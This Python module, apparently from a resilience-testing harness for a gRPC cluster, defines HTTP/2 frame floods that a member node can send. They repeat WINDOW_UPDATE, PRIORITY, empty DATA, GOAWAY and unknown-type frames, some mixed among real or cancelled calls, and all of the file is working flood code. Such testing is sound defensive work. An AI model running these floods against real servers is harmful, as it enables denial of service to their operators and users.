"""What one member can send that gRPC reads and shows to nobody, beside `attacks.py`."""

from __future__ import annotations

import struct
from collections.abc import Callable

from attacks import BATCH, CANCEL, Attack
from frames import (
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PRIORITY,
    RST_STREAM,
    WINDOW_UPDATE,
    Connection,
    frame,
    message,
    request_headers,
)
from workload import path

UNKNOWN = 0xBB
TEXT = b"x" * 1_000
HIDDEN_EVERY = 40
"""Batches of frames between two messages among them: 2 MB, half of the largest message."""


def window_updates(attack: Attack, until: float) -> int:
    return attack.flood(until, _on_open(attack, WINDOW_UPDATE, struct.pack(">I", 1)), 1e9)


def priorities(attack: Attack, until: float) -> int:
    return attack.flood(until, _on_open(attack, PRIORITY, b"\0\0\0\0\x10"), 1e9)


def empty_data(attack: Attack, until: float) -> int:
    return attack.flood(until, _on_open(attack, DATA, b""), 1e9)


def goaways(attack: Attack, until: float) -> int:
    """Says again and again that it is about to go, with some text."""
    one = frame(GOAWAY, 0, bytes(8) + TEXT)
    return attack.flood(until, lambda _: one * BATCH, 1e9)


def unknown_frames(attack: Attack, until: float) -> int:
    """Sends frames of a type that HTTP/2 does not have; a server has to pass over them."""
    one = frame(UNKNOWN, 0, TEXT)
    return attack.flood(until, lambda _: one * BATCH, 1e9)


def frames_among(attack: Attack, until: float, what: str) -> int:
    """Sends such frames, and now and then a small call or message, or a call that it cancels."""
    junk = frame(UNKNOWN, 0, TEXT) * BATCH
    method = path("Upload" if what == "messages" else "Echo")
    block = request_headers(method, attack.node_id)
    streams: dict[Connection, int] = {}
    batches = 0

    def batch(connection: Connection) -> bytes:
        nonlocal batches
        batches += 1
        first, is_due = b"", batches % HIDDEN_EVERY == 0
        if (is_due and what != "messages") or connection not in streams:
            stream = streams[connection] = connection.next_stream()
            first = frame(HEADERS, stream, block, END_HEADERS)
        if is_due and what == "cancelled calls":
            first += frame(RST_STREAM, streams[connection], CANCEL)
        elif is_due:
            flags = END_STREAM if what == "calls" else 0
            first += frame(DATA, streams[connection], message(b"x"), flags)
        return first + junk

    return attack.flood(until, batch, 1e9)


def _on_open(attack: Attack, kind: int, payload: bytes) -> Callable[[Connection], bytes]:
    """Returns what repeats a frame on an open call of each connection."""
    block = request_headers(path("Upload"), attack.node_id)
    streams: dict[Connection, int] = {}

    def batch(connection: Connection) -> bytes:
        first = b""
        if connection not in streams:
            stream = streams[connection] = connection.next_stream()
            first = frame(HEADERS, stream, block, END_HEADERS)
        return first + frame(kind, streams[connection], payload) * BATCH

    return batch


KINDS: dict[str, Callable[[Attack, float], int]] = {
    "WINDOW_UPDATE": window_updates,
    "PRIORITY": priorities,
    "empty DATA": empty_data,
    "GOAWAY": goaways,
    "unknown frames": unknown_frames,
    "frames among messages": lambda a, until: frames_among(a, until, "messages"),
    "frames among calls": lambda a, until: frames_among(a, until, "calls"),
    "frames among cancelled calls": lambda a, until: frames_among(a, until, "cancelled calls"),
}
